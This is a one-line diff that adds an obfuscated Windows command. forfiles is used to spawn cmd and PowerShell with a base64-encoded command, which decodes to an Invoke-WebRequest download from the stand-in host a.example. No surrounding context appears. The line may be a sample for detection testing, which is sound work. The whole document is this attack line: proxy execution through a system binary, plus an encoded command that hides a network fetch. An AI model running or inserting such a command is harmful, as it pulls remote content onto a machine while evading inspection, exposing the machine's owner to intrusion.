@@ -1,0 +1,1 @@
+forfiles /p C:\Windows /m notepad.exe /c "cmd /c powershell -e aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA="
